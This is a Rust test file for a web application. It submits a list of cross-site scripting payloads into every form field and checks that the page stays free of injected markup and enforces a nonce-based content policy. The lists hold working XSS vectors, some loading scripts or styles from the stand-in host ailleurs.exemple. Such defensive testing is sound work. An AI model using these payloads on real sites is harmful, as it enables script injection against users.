//! Text is text: whatever is typed, a page holds no element and no attribute that it would not hold otherwise.

use std::collections::BTreeMap;

use scraper::Html;

use crate::actor::{Learner, NEW_BILL};
use crate::house::House;
use crate::page::{Page, all};

/// What each payload would run or load, in the place where it is put.
const DEEDS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//ailleurs.exemple/x.js></script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>ici</a>",
    "<form action=//ailleurs.exemple><input name=x></form>",
    "<button formaction=//ailleurs.exemple>ici</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<style>*{background:url(//ailleurs.exemple)}</style>",
    "<link rel=stylesheet href=//ailleurs.exemple/x.css>",
    "<meta http-equiv=refresh content='0;url=//ailleurs.exemple'>",
    "<base href=//ailleurs.exemple/>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<leptos-island data-component=Guard_1></leptos-island>",
];

/// What would let a payload out of the place where it is put.
const WAYS_OUT: &[&str] = &["", "\">", "'>", "</textarea>", "</title></head>", "\u{0}", "]]>-->"];

/// Attributes without a single `<`.
const ATTRIBUTES: &[&str] = &[
    "\" onfocus=alert(1) autofocus=\"",
    "' onfocus=alert(1) autofocus='",
    "\" style=\"background:red",
    "x onmouseover=alert(1) y=",
    "`onerror=alert(1)`",
    "javascript:alert(1)",
    "&#34; onfocus=alert(1) &#34;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

fn payloads() -> Vec<String> {
    let together = DEEDS.iter().flat_map(|deed| WAYS_OUT.iter().map(move |way| format!("{way}{deed}")));
    together.chain(ATTRIBUTES.iter().map(|text| (*text).to_owned())).collect()
}

/// How many of each element, and the attributes each kind of element has.
fn shape(html: &Html) -> BTreeMap<String, usize> {
    let mut shape = BTreeMap::new();
    for element in all(html, "*") {
        let names: Vec<&str> = element.value().attrs().map(|(name, _)| name).collect();
        assert!(!names.iter().any(|name| name.starts_with("on") || *name == "style"), "{names:?}");
        for place in ["href", "src", "action", "formaction"] {
            let leads = element.attr(place).unwrap_or("/");
            assert!(leads.starts_with('/') || leads.starts_with('#'), "{place}={leads}");
        }
        *shape.entry(element.value().name().to_owned()).or_default() += 1;
    }
    shape
}

/// Types each payload in all the fields of the page at once.
async fn types_markup(learner: &mut Learner) {
    let heading = learner.page.heading();
    let (to, inputs) = (learner.page.target(), learner.page.inputs("page"));
    let hidden = inputs.into_iter().filter(|(name, _)| name == "visite").collect::<Vec<_>>();
    let fields = learner.page.fields();
    let form = |text: &str| {
        let typed = fields.iter().map(|name| (name.clone(), text.to_owned()));
        hidden.iter().cloned().chain(typed).collect::<Vec<_>>()
    };
    learner.posts(&to, &form("x")).await;
    let expected = shape(&learner.page.html());
    for payload in payloads() {
        learner.posts(&to, &form(&payload)).await;
        assert_eq!(shape(&learner.page.html()), expected, "{payload}");
    }
    assert_eq!(learner.page.heading(), heading);
}

#[test]
fn there_are_enough_payloads() {
    assert!(payloads().len() >= 200, "{}", payloads().len());
}

#[tokio::test]
async fn markup_typed_in_any_field_stays_text() {
    let house = House::opens().await;
    let mut learner = Learner::begins(&house).await;
    types_markup(&mut learner).await;
    learner.logs_in().await;
    types_markup(&mut learner).await;
    learner.names_the_vehicle().await;
    types_markup(&mut learner).await;
    learner.gives_the_address(NEW_BILL).await;
    types_markup(&mut learner).await;
}

#[tokio::test]
async fn what_was_typed_comes_back_letter_for_letter() {
    let house = House::opens().await;
    let mut learner = Learner::begins(&house).await;
    for text in [
        "\"><img src=x onerror=alert(1)>",
        "</textarea><script>alert(1)</script>",
        "a & b &amp; c",
        "l’été à 5 €",
        "👩‍👧 ok",
        "\u{202e}ordre inverse",
    ] {
        learner.types("Adresse électronique", text).continues().await;
        assert_eq!(learner.page.shows("Adresse électronique"), text);
    }
}

/// A page is told apart from its scripts by what it may load; this is the belt to the braces above.
#[tokio::test]
async fn no_page_may_run_what_is_not_ours() {
    let house = House::opens().await;
    let learner = Learner::begins(&house).await;
    let policy = learner.page.policy();
    assert!(policy["script-src"].starts_with("'self' 'nonce-"), "{policy:?}");
    for (name, expected) in [
        ("style-src", "'self'"),
        ("base-uri", "'none'"),
        ("form-action", "'self'"),
        ("connect-src", "'self'"),
    ] {
        assert_eq!(policy[name], expected);
    }
    let nonce = |page: &Page| page.policy()["script-src"].clone();
    let mut again = learner.another_tab();
    again.reloads().await;
    assert_ne!(nonce(&again.page), nonce(&learner.page));
}
